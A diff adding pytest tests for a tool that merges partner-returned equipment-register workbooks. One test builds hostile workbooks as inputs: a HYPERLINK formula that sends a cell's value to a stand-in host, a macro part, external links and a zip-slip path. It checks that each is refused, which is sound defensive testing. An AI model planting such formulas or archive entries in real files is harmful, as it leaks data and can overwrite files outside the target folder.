@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import io
+import zipfile
+from collections.abc import Callable
 from pathlib import Path
 
+import openpyxl
 import pytest
 
 from tests.cli.conftest import Run, Said
@@ -124,3 +128,91 @@ def test_a_form_that_cannot_be_made_is_refused(
     said = meetlat("equipment", "register", "form", "--out", tmp_path / "x.xlsx", "--register", register, *words)
     assert (said.code, [problem["column"] for problem in said.problems]) == (2, [column])
     assert not (tmp_path / "x.xlsx").exists()
+
+
+def formula(raw: bytes) -> bytes:
+    """Put a formula where a partner should state a class."""
+    book = openpyxl.load_workbook(io.BytesIO(raw))
+    sheet = book["materieelregister"]
+    (column,) = [cell.column for cell in sheet[1] if cell.value == "emissieklasse"]
+    sheet.cell(2, column).value = '=HYPERLINK("http://example.org/"&A2,"V")'
+    changed = io.BytesIO()
+    book.save(changed)
+    return changed.getvalue()
+
+
+def with_part(name: str) -> Callable[[bytes], bytes]:
+    def add(raw: bytes) -> bytes:
+        changed = io.BytesIO(raw)
+        with zipfile.ZipFile(changed, "a") as package:
+            package.writestr(name, b"<x/>")
+        return changed.getvalue()
+
+    return add
+
+
+@pytest.mark.parametrize(
+    ("harm", "message"),
+    [
+        (formula, "formule"),
+        (with_part("xl/vbaProject.bin"), "macro's"),
+        (with_part("xl/externalLinks/externalLink1.xml"), "van buiten"),
+        (with_part("../../outside.xml"), ""),
+        (lambda raw: raw[: len(raw) // 2], ""),
+    ],
+    ids=["formula", "macros", "links", "slip", "cut"],
+)
+def test_a_hostile_form_is_refused_and_the_others_are_merged(
+    meetlat: Run, tmp_path: Path, harm: Callable[[bytes], bytes], message: str
+) -> None:
+    """One partner's bad workbook keeps nobody else's answer out, and not a cell of it gets in."""
+    register, out = write(tmp_path, PROVEN), tmp_path / "nieuw.xlsx"
+    meetlat("equipment", "register", "form", "--out", tmp_path / "terug.xlsx", "--register", register)
+    bad, good = tmp_path / "slecht.xlsx", write(tmp_path, UNPROVEN, "goed.csv")
+    bad.write_bytes(harm((tmp_path / "terug.xlsx").read_bytes()))
+    said = meetlat("equipment", "register", "merge", register, bad, good, "--out", out)
+    assert (said.code, said.result["added"]) == (0, ["KR-2"])
+    assert message in said.json["problems"][0]["message"]
+    assert said.json["problems"][0]["file"] == str(bad)
+    alone = meetlat("equipment", "register", "merge", register, bad, "--out", out)
+    assert alone.code == 2
+
+
+def test_a_form_that_came_back_untouched_changes_nothing(meetlat: Run, tmp_path: Path) -> None:
+    register, form = write(tmp_path, PROVEN + UNPROVEN), tmp_path / "terug.xlsx"
+    meetlat("equipment", "register", "form", "--out", form, "--register", register)
+    said = meetlat("equipment", "register", "merge", register, form, "--out", tmp_path / "nieuw.xlsx")
+    empty = [said.result[name] for name in ("added", "filled", "contradictions", "ambiguous", "not_returned")]
+    assert empty == [[], [], [], [], []]
+    again = meetlat("equipment", "register", "check", tmp_path / "nieuw.xlsx", "--on", "2026-03-01")
+    assert [one["outcome"] for one in again.result["machines"]] == ["met", "unknown"]
+
+
+def test_a_contradiction_is_printed_without_a_plate_and_marked_in_the_workbook(meetlat: Run, tmp_path: Path) -> None:
+    register = write(tmp_path, "BUS-1,Vervoer BV,transport,12-ABC-3,,N1,EURO 5,diesel,\n")
+    back = write(tmp_path, "BUS-1,Vervoer BV,transport,12-ABD-3,,N1,EURO 6,diesel,\n", "terug.csv")
+    out = tmp_path / "nieuw.xlsx"
+    said = meetlat("equipment", "register", "merge", register, back, "--out", out)
+    assert [(one["column"], one["kept"]) for one in said.result["contradictions"]] == [
+        ("plate", "[kenteken]"),
+        ("stage", "EURO 5"),
+    ]
+    assert "ABC" not in said.out
+    sheet = openpyxl.load_workbook(out)["materieelregister"]
+    assert len([cell for cell in sheet[2] if cell.fill.fgColor.rgb == "FFFFF3C4"]) == 2
+
+
+def test_a_folder_of_forms_is_merged(meetlat: Run, tmp_path: Path) -> None:
+    folder = tmp_path / "terug"
+    folder.mkdir()
+    write(folder, UNPROVEN, "a.csv")
+    write(folder, "KR-5,,mobile,,,,,,\n", "b.csv")
+    (folder / "~$a.xlsx").write_bytes(b"lock")
+    said = meetlat("equipment", "register", "merge", write(tmp_path, PROVEN), folder, "--out", tmp_path / "n.xlsx")
+    assert said.result["added"] == ["KR-2", "KR-5"]
+
+
+def test_a_register_is_written_as_a_workbook_only(meetlat: Run, tmp_path: Path) -> None:
+    register = write(tmp_path, PROVEN)
+    said = meetlat("equipment", "register", "merge", register, register, "--out", tmp_path / "nieuw.csv")
+    assert (said.code, said.problems[0]["column"]) == (2, "--out")
